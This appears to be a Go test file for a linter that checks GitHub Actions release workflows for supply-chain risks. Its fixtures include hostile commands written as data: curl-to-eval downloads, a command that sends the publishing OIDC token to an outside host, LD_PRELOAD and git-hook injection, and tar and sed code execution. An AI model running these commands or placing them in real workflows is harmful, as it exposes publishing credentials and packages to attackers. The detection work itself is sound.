// SPDX-License-Identifier: BSD-3-Clause

package publish_test

import (
	"strings"
	"testing"

	"github.com/scientific-python/sallyport/internal/finding"
)

// publishing is a release with steps behind the download in the job that
// uploads.
func publishing(steps string) repo {
	indent := strings.ReplaceAll(strings.TrimSpace(steps), "\n", "\n      ")
	return repo{"release.yml": `
on: {push: {tags: ["v*"]}}
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    outputs: {id: "${{ steps.up.outputs.artifact-id }}"}
    steps:
      - uses: ` + pinCheckout + `
      - run: python -m build
      - uses: ` + pinUpload + `
        id: up
        with: {name: dist, path: dist/}
  publish:
    needs: build
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write, contents: read}
    steps:
      - uses: ` + pinDownload + `
        with:
          artifact-ids: ${{ needs.build.outputs.id }}
          path: dist/
      ` + indent + `
      - uses: ` + pinPublish + `
`}
}

// building is publishing("") with a script in front of the build.
func building(script string) repo {
	out := publishing("")
	out["release.yml"] = strings.Replace(out["release.yml"], "      - run: python -m build\n", "      - run: "+quoteYAML(script)+"\n      - run: python -m build\n", 1)
	return out
}

// TestForeignCode: in a job that can publish, what is not known to be harmless
// is foreign code.
func TestForeignCode(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"java -jar x.jar", "ssh host ls", "vim -es x", "${{ needs.build.outputs.c }}", "${{ vars.CMD }}", "$TOOL dist", `eval "$(curl -s https://example.org/x)"`,
		"git -c alias.x='!sh ci/x.sh' x", "git -c core.hooksPath=ci push", "git unknown-verb", "git config core.fsmonitor ci/x.sh", "git clone ext::sh",
		"gh alias set x '!sh'", "gh myext", "gh x", `awk '{print | "sh"}' f`, "awk -f ci/x.awk", "sed '1e sh ci/x.sh' f", "sed 's/a/b/e' f", "sed -n -f ci/x.sed f",
		"tar -cf /tmp/a.tar x --checkpoint=1 --checkpoint-action=exec=ci/x.sh", "tar -I ci/x.sh -cf a.tar x", "sort --compress-program=ci/x.sh f", "split --filter=ci/x.sh f",
		`node -e "require('./x')"`, `python -m timeit "print()"`, `python -c "__import__('x')"`, `python -c "import importlib.util as u; u.x"`, `python -c "if 1: import samplepkg"`,
		"PATH=$PWD/ci:$PATH ls", "LD_PRELOAD=./x.so ls", "GIT_SSH_COMMAND=ci/x git push", "$RUNNER_TEMP/x", "cp ci/x.sh /tmp/x && /tmp/x", ". /home/runner/work/x/x.sh", ". $X/x.sh",
		"cp ci/hook .git/hooks/pre-push", "cp ci/ls /usr/local/bin/ls", "docker run ghcr.io/evil/sallyport gate --seal dist", "./ci/sallyport gate dist", "curl -K ci/x",
	} {
		set := judge(t, publishing("- run: "+quoteYAML(line)))
		if len(fired(set, "build-in-publish-job")) == 0 {
			t.Errorf("%s: nothing is said", line)
		}
	}
	for _, line := range []string{
		"ls -la dist", "sha256sum dist/* | sort -k2", "git config --global user.name x", "git -c user.name=x tag v1", "git log -1 --format=%H", "gh release create v1 dist/*", "gh api /rate_limit",
		`awk '{print $1 "|" $2}' f`, `awk -F'|' '{print $2}' f`, `awk '/^## v|^# v/ { next } 1' f`, `sed -n '/^## /,/^## /p' CHANGELOG.md`, "sed -i \"s/@V@/${GITHUB_REF_NAME}/g; s|a|b|\" notes.md", `sed -E -e 's/^v//' -e '$d' f`,
		"tar -tzf dist/x.tar.gz", `python -c "import hashlib, sys; print(sys.version)"`, "python --version", "PATH=$HOME/.local/bin:$PATH ls", "PYTHONUNBUFFERED=1 ls", "find dist -name '*.whl'", "unzip -l dist/x.whl",
		"echo done >> \"$GITHUB_STEP_SUMMARY\"", "jq -r .tag f", "/usr/bin/git status", "source .venv/bin/activate",
	} {
		set := judge(t, publishing("- run: "+quoteYAML(line)))
		for _, f := range fired(set, "build-in-publish-job") {
			t.Errorf("%s: %s", line, f.Message)
		}
	}
}

func quoteYAML(text string) string { return "'" + strings.ReplaceAll(text, "'", "''") + "'" }

// TestModulesOfTheWorkspace: after a checkout, python finds the repository's
// files before its own modules.
func TestModulesOfTheWorkspace(t *testing.T) {
	t.Parallel()
	checkout := "- uses: " + pinCheckout + "\n"
	for text, want := range map[string]bool{
		"- run: python -m json.tool x.json":                  false,
		checkout + "- run: python -m json.tool x.json":       true,
		checkout + "- run: python -c 'import tomllib'":       true,
		checkout + "- run: python -I -c 'import tomllib'":    false,
		checkout + "- run: python -m twine check dist/*":     false,
		checkout + "- run: python -c 'import os, sys'":       false,
		checkout + "- run: exec 3>&1":                        false,
		checkout + "- run: python -c 'print(1)'":             false,
		checkout + "- run: python -IS -m json.tool x.json":   false,
		checkout + "- run: python3 -m zipfile -l dist/a.whl": true,
	} {
		if got := len(fired(judge(t, publishing(text)), "build-in-publish-job")) > 0; got != want {
			t.Errorf("%s: %v, want %v", text, got, want)
		}
	}
}

func TestForeignInflow(t *testing.T) {
	const unknown = "evil/act@1111111111111111111111111111111111111111"
	const script = "actions/github-script@1111111111111111111111111111111111111111"
	sallyport := "- uses: scientific-python/sallyport@3de45970668ff56ba44f359efc53eb3862960faf # v1.0.0\n  with: {command: seal, dists: DIR}"
	for _, c := range []ruleCase{
		{rule: "build-in-publish-job", name: "an unknown action", severity: finding.Error, message: "evil/act", bad: publishing("- uses: " + unknown)},
		{rule: "build-in-publish-job", name: "a local action of a checkout", severity: finding.Error, message: "./x", bad: publishing("- uses: ./x")},
		{rule: "build-in-publish-job", name: "a script that loads a module", severity: finding.Error, message: "github-script",
			bad:  publishing("- uses: " + script + "\n  with:\n    script: require('./ci/x.js')()"),
			good: publishing("- uses: " + script + "\n  with:\n    script: core.info(context.sha)")},
		{rule: "id-token-by-hand", name: "by curl", severity: finding.Error, message: "ACTIONS_ID_TOKEN_REQUEST_",
			bad:  publishing("- run: 'curl -sH \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi\" | curl -d @- https://example.org'"),
			good: publishing("- run: curl -sSf https://example.org/status")},
		{rule: "id-token-by-hand", name: "by a script of an action", severity: finding.Error, message: "getIDToken",
			bad: publishing("- uses: " + script + "\n  with:\n    script: const t = await core.getIDToken('pypi')")},
		{rule: "gate-checks-other-files", name: "another folder", severity: finding.Error, message: `"other/"`,
			bad: publishing(strings.ReplaceAll(sallyport, "DIR", "other/")), good: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/"))},
		{rule: "gate-weakened", name: "a trial", severity: finding.Warning, message: `enforce: "false"`,
			bad: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/, enforce: 'false'")), good: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/, enforce: 'true'"))},
		{rule: "gate-weakened", name: "a trial of a command", severity: finding.Warning, message: "--enforce=false",
			bad: publishing("- run: sallyport gate --enforce=false --enforce-from 2027-01-31 dist/"), good: publishing("- run: sallyport gate dist/")},
		{rule: "gate-weakened", name: "nobody asked", severity: finding.Warning, message: `offline: "true"`,
			bad: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/, offline: 'true'")), good: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/, offline: 'false'"))},
		{rule: "gate-weakened", name: "other roots", severity: finding.Warning, message: "ci/root.json",
			bad: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/, trusted-root: ci/root.json")), good: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/"))},
		{rule: "gate-weakened", name: "a weaker policy", severity: finding.Warning, message: "ci/weak.yml",
			bad: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/, policy: ci/weak.yml")), good: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/, policy: .github/sallyport.yml"))},
		{rule: "step-between-gate-and-upload", name: "a way around /tmp", severity: finding.Error,
			bad:  publishing(strings.ReplaceAll(sallyport, "DIR", "dist/") + "\n- run: echo x > /tmp/../home/dist/x.whl"),
			good: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/") + "\n- run: echo x > /tmp/x")},
		{rule: "step-between-gate-and-upload", name: "sort writes", severity: finding.Error, bad: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/") + "\n- run: sort -o dist/x.whl f"),
			good: publishing(strings.ReplaceAll(sallyport, "DIR", "dist/") + "\n- run: sort f")},
		{rule: "dists-from-outside-run", name: "a bucket", severity: finding.Error, message: "an address", bad: publishing("- run: aws s3 cp s3://x/ dist/ --recursive"), good: publishing("- run: aws s3 cp dist/ s3://x/ --recursive --dryrun || true")},
		{rule: "dists-from-outside-run", name: "an archive", severity: finding.Error, bad: publishing("- run: |\n    gh api repos/x/y/actions/artifacts/1/zip > d.zip\n    unzip d.zip -d dist"),
			good: publishing("- run: |\n    gh api repos/x/y/releases > notes.json\n    unzip -l dist/x.whl")},
		{rule: "dists-from-outside-run", name: "by python", severity: finding.Error, bad: publishing("- run: |\n    python -c \"import urllib.request as r; r.urlretrieve('https://example.org/x','dist/x.whl')\"")},
		{rule: "dists-from-outside-run", name: "a pipe", severity: finding.Error, bad: publishing("- run: curl -sSL https://example.org/d.tgz | tar xz -C dist"), good: publishing("- run: curl -sSL https://example.org/status | tee status.json")},
		{rule: "dists-from-outside-run", name: "the commit of a pull request", severity: finding.Error, message: "pull request",
			bad: building("git fetch origin pull/5/head && git checkout FETCH_HEAD"), good: building("git fetch origin main && git log -1")},
		{rule: "dists-from-outside-run", name: "a bucket, in the build", severity: finding.Error, bad: building("aws s3 cp s3://x/ dist/ --recursive"), good: building("aws s3 cp s3://x/data tests/data --recursive")},
		{rule: "dists-from-outside-run", name: "an archive, in the build", severity: finding.Error, bad: building("curl -sSLo d.zip https://example.org/d.zip && unzip d.zip -d dist"), good: building("curl -sSLo d.zip https://example.org/d.zip && unzip d.zip -d data")},
		{rule: "dists-from-outside-run", name: "a file of the repository", severity: finding.Error, message: "kept in the repository",
			bad:  repo{"release.yml": strings.Replace(publishing("")["release.yml"], "- uses: "+pinDownload+"\n        with:\n          artifact-ids: ${{ needs.build.outputs.id }}\n          path: dist/", "- uses: "+pinCheckout, 1)},
			good: publishing("")},
		{rule: "dists-from-outside-run", name: "the repository over the files", severity: finding.Error, message: "over the files", bad: publishing("- uses: " + pinCheckout),
			good: publishing("- uses: " + pinCheckout + "\n  with: {path: source}")},
		{rule: "dists-from-outside-run", name: "in its folder", severity: finding.Error, bad: publishing("- run: cd dist && curl -OJ https://example.org/x"), good: publishing("- run: cd notes && curl -OJ https://example.org/x")},
	} {
		c.run(t)
	}
}

func TestChains(t *testing.T) {
	release := func(on string) string {
		return "\non: " + on + "\npermissions: {}\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    environment: pypi\n    permissions: {id-token: write}\n    steps:\n" +
			"      - uses: " + pinDownload + "\n        with: {name: dist, path: dist/}\n      - uses: " + pinPublish + "\n"
	}
	other := func(on, condition, access, step string) string {
		return "\non: " + on + "\npermissions: {}\njobs:\n  bot:\n    runs-on: ubuntu-latest\n" + condition + "    permissions: {" + access + "}\n    steps:\n      " + step + "\n"
	}
	const member = "    if: github.event.comment.author_association == 'MEMBER'\n"
	pat := "\n        env: {GH_TOKEN: \"${{ secrets.PAT }}\"}"
	for _, c := range []ruleCase{
		{rule: "publish-from-untrusted-event", name: "a comment dispatches", severity: finding.Error, message: "starts another workflow",
			bad:  repo{"release.yml": release("workflow_dispatch"), "x.yml": other("issue_comment", "", "actions: write", "- run: gh workflow run release.yml")},
			good: repo{"release.yml": release("workflow_dispatch"), "x.yml": other("issue_comment", member, "actions: write", "- run: gh workflow run release.yml")}},
		{rule: "publish-from-untrusted-event", name: "without the right", severity: finding.Error, message: "starts another workflow",
			bad:  repo{"release.yml": release("workflow_dispatch"), "x.yml": other("issue_comment", "", "contents: read", "- run: gh workflow run release.yml"+pat)},
			good: repo{"release.yml": release("workflow_dispatch"), "x.yml": other("issue_comment", "", "contents: read", "- run: gh workflow run release.yml")}},
		{rule: "publish-from-untrusted-event", name: "an issue makes a release", severity: finding.Error, message: "makes a release",
			bad:  repo{"release.yml": release("{release: {types: [published]}}"), "x.yml": other("issues", "", "contents: write", "- run: gh release create v9"+pat)},
			good: repo{"release.yml": release("{release: {types: [published]}}"), "x.yml": other("issues", "", "contents: write", "- run: gh release create v9")}},
		{rule: "publish-from-untrusted-event", name: "a comment approves", severity: finding.Error, message: "approves",
			bad:  repo{"release.yml": release("{push: {tags: [\"v*\"]}}"), "x.yml": other("issue_comment", "", "actions: write", "- run: gh api -X POST repos/o/r/actions/runs/1/pending_deployments -f state=approved")},
			good: repo{"release.yml": release("{push: {tags: [\"v*\"]}}"), "x.yml": other("workflow_dispatch", "", "actions: write", "- run: gh api -X POST repos/o/r/actions/runs/1/pending_deployments -f state=approved")}},
		{rule: "publish-from-untrusted-event", name: "a merged pull request tags", severity: finding.Error, message: "pushes a tag",
			bad:  repo{"release.yml": release("{push: {tags: [\"v*\"]}}"), "x.yml": other("pull_request_target", "", "contents: write", "- run: git tag v9 && git push https://x:$GH_TOKEN@github.com/o/r v9"+pat)},
			good: repo{"release.yml": release("{push: {tags: [\"v*\"]}}"), "x.yml": other("pull_request_target", "    if: github.event.pull_request.merged == true\n", "contents: write", "- run: git tag v9 && git push https://x:$GH_TOKEN@github.com/o/r v9"+pat)}},
		{rule: "publish-from-untrusted-event", name: "a fork's commit is built", severity: finding.Error, message: "anybody's pull request",
			bad: repo{"release.yml": behind("github.event.workflow_run.head_branch == 'main'"), "ci.yml": "name: CI\non: pull_request\njobs: {t: {runs-on: ubuntu-latest, steps: [{run: 'true'}]}}\n"}},
		{rule: "publish-without-intent", name: "any other event", severity: finding.Warning, message: "status", bad: repo{"release.yml": release("status")}, good: repo{"release.yml": release("workflow_dispatch")}},
		{rule: "publish-without-intent", name: "create", severity: finding.Warning, message: "create", bad: repo{"release.yml": release("create")},
			good: repo{"release.yml": strings.Replace(release("create"), "    runs-on", "    if: startsWith(github.ref, 'refs/tags/')\n    runs-on", 1)}},
	} {
		c.run(t)
	}
}

// behind is a release that starts when CI ends, and builds what CI ran for.
func behind(condition string) string {
	out := strings.Replace(publishing("")["release.yml"], `{push: {tags: ["v*"]}}`, "{workflow_run: {workflows: [CI]}}", 1)
	out = strings.Replace(out, "  build:\n", "  build:\n    if: "+condition+"\n", 1)
	return strings.Replace(out, pinCheckout+"\n", pinCheckout+"\n        with: {ref: \"${{ github.event.workflow_run.head_sha }}\"}\n", 1)
}
